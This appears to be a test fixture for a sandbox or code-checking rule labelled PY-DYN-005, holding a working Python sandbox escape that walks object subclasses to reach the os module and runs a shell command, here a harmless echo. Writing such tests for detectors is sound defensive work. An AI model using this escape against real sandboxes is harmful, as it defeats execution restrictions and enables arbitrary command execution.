# rule: PY-DYN-005
# attempts: pwned-42
# The classic sandbox escape: from an empty tuple to a class whose module imported os.
for cls in ().__class__.__base__.__subclasses__():
    g = getattr(getattr(cls, "__init__", None), "__globals__", None)
    if isinstance(g, dict) and hasattr(g.get("os"), "system"):
        g["os"].system("echo pwned-$((6*7))")
        break
